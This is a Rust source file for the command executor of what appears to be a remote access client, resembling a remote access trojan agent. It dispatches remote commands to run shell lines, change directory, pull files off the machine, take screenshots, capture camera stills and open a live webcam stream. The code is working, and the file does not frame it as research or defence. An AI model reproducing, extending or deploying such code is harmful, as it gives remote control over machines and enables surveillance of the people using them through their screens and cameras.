//! Capability executor: maps one decoded command to a reply.
//!
//! The executor owns the session's working directory as explicit state and
//! passes it into every shell and filesystem call; the process-wide working
//! directory is never mutated, so concurrent sessions cannot collide.

use std::path::{Path, PathBuf};

use tracing::{info, warn};

use super::{Capture, FrameSource, Shell};
use crate::command::Command;
use crate::errors::CapabilityError;

/// Outcome of dispatching one command. The session endpoint decides how each
/// variant goes on the wire.
#[derive(Debug, PartialEq, Eq)]
pub enum Reply {
    /// Empty command: session continues, no response sent.
    None,
    /// End the session. No payload.
    Terminate,
    /// Textual result, including `ERROR: ...` strings.
    Text(String),
    /// Binary result already in memory (encoded capture image).
    Payload(Vec<u8>),
    /// Stream this file's bytes, sentinel-terminated.
    File(PathBuf),
    /// Open the stream channel; nothing goes back on the command channel.
    OpenStream,
}

/// Dispatches decoded commands against the local collaborators.
pub struct Executor {
    shell: Box<dyn Shell>,
    capture: Box<dyn Capture>,
    cwd: PathBuf,
}

impl Executor {
    /// Create an executor rooted at `cwd`.
    pub fn new(shell: Box<dyn Shell>, capture: Box<dyn Capture>, cwd: PathBuf) -> Self {
        Self {
            shell,
            capture,
            cwd,
        }
    }

    /// Current working directory of this session.
    pub fn cwd(&self) -> &Path {
        &self.cwd
    }

    /// Execute one command. Capability failures never escape: they come back
    /// as `Reply::Text("ERROR: ...")`.
    pub async fn dispatch(&mut self, command: &Command) -> Reply {
        match command {
            Command::Empty => Reply::None,
            Command::Terminate => Reply::Terminate,
            Command::Webcam => Reply::OpenStream,
            Command::Cd(path) => Reply::Text(self.change_dir(path)),
            Command::Download(path) => self.locate_file(path).await,
            Command::Screenshot => match self.capture.screenshot().await {
                Ok(bytes) => Reply::Payload(bytes),
                Err(e) => {
                    warn!(error = %e, "Screenshot capture failed");
                    Reply::Text("ERROR: Screenshot failed".to_string())
                }
            },
            Command::CamPic => match self.capture.camera_still().await {
                Ok(bytes) => Reply::Payload(bytes),
                Err(e) => {
                    warn!(error = %e, "Photo capture failed");
                    Reply::Text("ERROR: Photo capture failed".to_string())
                }
            },
            Command::Shell(line) => match self.shell.run(line, &self.cwd).await {
                Ok(output) => Reply::Text(output),
                Err(e) => Reply::Text(format!("ERROR: {e}")),
            },
        }
    }

    /// Open the camera for the stream channel. The returned source owns the
    /// device until dropped.
    pub async fn open_camera(&self) -> Result<Box<dyn FrameSource>, CapabilityError> {
        self.capture.open_camera().await
    }

    /// Resolve a command path against the session working directory.
    fn resolve(&self, path: &str) -> PathBuf {
        let path = Path::new(path);
        if path.is_absolute() {
            path.to_path_buf()
        } else {
            self.cwd.join(path)
        }
    }

    /// `cd`: on success the new absolute path becomes the reply text; on
    /// failure the working directory is left unchanged.
    fn change_dir(&mut self, path: &str) -> String {
        let candidate = self.resolve(path);
        match candidate.canonicalize() {
            Ok(resolved) if resolved.is_dir() => {
                info!(cwd = %resolved.display(), "Changed working directory");
                let text = resolved.display().to_string();
                self.cwd = resolved;
                text
            }
            Ok(_) => "ERROR: Not a directory".to_string(),
            Err(e) => match e.kind() {
                std::io::ErrorKind::NotFound => "ERROR: Directory not found".to_string(),
                std::io::ErrorKind::PermissionDenied => "ERROR: Permission denied".to_string(),
                _ => format!("ERROR: {e}"),
            },
        }
    }

    /// `download`: verify the file exists before any stream is entered, so a
    /// missing file yields a single complete error result.
    async fn locate_file(&self, path: &str) -> Reply {
        let resolved = self.resolve(path);
        match tokio::fs::metadata(&resolved).await {
            Ok(meta) if meta.is_file() => Reply::File(resolved),
            Ok(_) => Reply::Text("ERROR: File not found".to_string()),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                Reply::Text("ERROR: File not found".to_string())
            }
            Err(e) => {
                warn!(path = %resolved.display(), error = %e, "File transfer error");
                Reply::Text("ERROR: Transfer failed".to_string())
            }
        }
    }
}
